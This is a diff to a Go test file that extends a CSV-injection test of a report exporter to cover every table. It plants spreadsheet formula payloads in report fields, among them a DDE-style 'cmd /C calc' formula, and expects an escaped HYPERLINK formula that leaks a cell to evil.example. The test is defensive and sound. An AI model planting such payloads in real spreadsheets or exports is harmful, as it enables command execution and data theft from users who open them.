@@ -3,6 +3,7 @@ package report
 import (
 	"bytes"
 	"encoding/csv"
+	"slices"
 	"strings"
 	"testing"
 
@@ -67,25 +68,35 @@ func TestHostileTable(t *testing.T) {
 }
 
 func TestHostileCSV(t *testing.T) {
-	var buf bytes.Buffer
-	if err := controlReport(t).WriteCSV(&buf); err != nil {
-		t.Fatal(err)
-	}
-	if c := controls(buf.String()); len(c) > 0 {
-		t.Errorf("CSV holds control characters %q", c)
-	}
-	rows, err := csv.NewReader(&buf).ReadAll()
-	if err != nil {
-		t.Fatal(err)
-	}
-	for _, row := range rows[1:] {
-		for i, cell := range row {
-			if cell != "" && strings.IndexByte("=+-@\t\r", cell[0]) >= 0 {
-				t.Errorf("column %s holds a formula: %q", CSVHeader[i], cell)
-			}
+	r := controlReport(t)
+	r.Articles[0].Title = "@SUM(1+1)*cmd|' /C calc'!A0"
+	r.Articles[1].Source = "-2+3"
+	r.Partial = append(r.Partial, Partial{Source: Place{Article: r.Articles[0].ID, Paragraph: 1}, Target: Place{Article: r.Articles[1].ID, Paragraph: 1},
+		Words: 9, Spans: []string{"=1+2 " + controlCodes}})
+	for _, table := range CSVTables {
+		var buf bytes.Buffer
+		if err := r.WriteCSVTable(&buf, table); err != nil {
+			t.Fatal(err)
 		}
-		if row[4] != `'=HYPERLINK("http://evil.example/?leak="&A1,"x")` && row[4] != `b\x1b[31m\x0d` {
-			t.Errorf("article cell %q", row[4])
+		if c := controls(buf.String()); len(c) > 0 {
+			t.Errorf("%s: CSV holds control characters %q", table, c)
+		}
+		rows, err := csv.NewReader(&buf).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		if len(rows) < 2 {
+			t.Fatalf("%s: %d rows", table, len(rows))
+		}
+		for _, row := range rows[1:] {
+			for i, cell := range row {
+				if cell != "" && strings.IndexByte("=+-@\t\r", cell[0]) >= 0 {
+					t.Errorf("%s: column %s holds a formula: %q", table, rows[0][i], cell)
+				}
+			}
+			if col := slices.IndexFunc(rows[0], func(h string) bool { return strings.HasSuffix(h, "article") }); col >= 0 && row[col] != `'=HYPERLINK("http://evil.example/?leak="&A1,"x")` && row[col] != `b\x1b[31m\x0d` {
+				t.Errorf("%s: article cell %q", table, row[col])
+			}
 		}
 	}
 }
